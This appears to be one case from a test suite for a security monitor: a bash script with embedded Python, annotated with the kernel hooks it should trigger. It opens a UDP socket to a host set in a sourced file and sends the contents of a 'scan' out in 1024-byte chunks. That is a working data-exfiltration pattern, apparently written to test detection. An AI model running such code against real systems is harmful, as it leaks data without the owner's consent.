#!/usr/bin/env bash
# technique: a UDP socket is connected before the scan is opened
# hooks: file_open (of the scan), socket_sendmsg
# sink: private-udp

. attack.sh
python3 - <<'PY'
from attack import *

with socket.socket(type=socket.SOCK_DGRAM) as sink:
    sink.connect(UDP)
    data = scan()
    for start in range(0, 1 << 15, 1024):
        sink.send(data[start : start + 1024])
PY
